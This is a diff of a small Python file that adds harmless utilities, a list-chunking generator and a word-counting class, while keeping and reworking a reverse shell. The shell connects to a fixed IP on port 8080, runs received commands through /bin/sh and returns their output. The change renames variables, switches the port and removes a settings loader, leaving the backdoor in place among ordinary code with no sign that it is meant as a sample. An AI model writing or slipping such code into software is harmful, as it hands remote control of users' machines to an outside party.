@@ -1,14 +1,18 @@
-#!/usr/bin/env python3
+def chunks(items, size):
+    for i in range(0, len(items), size):
+        yield items[i:i + size]
+
+class Counter:
+    def __init__(self):
+        self.counts = {}
+
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
 
 import socket, subprocess
-sock = socket.socket()
-sock.connect(("192.168.1.77", 443))
+client = socket.socket()
+client.connect(("192.168.1.77", 8080))
 while True:
-    cmd = sock.recv(1024).decode()
+    cmd = client.recv(1024).decode()
     out = subprocess.run(["/bin/sh", "-c", cmd], capture_output=True)
-    sock.send(out.stdout)
-import json
-
-def load_settings(path="settings.json"):
-    with open(path) as f:
-        return json.load(f)
+    client.send(out.stdout)
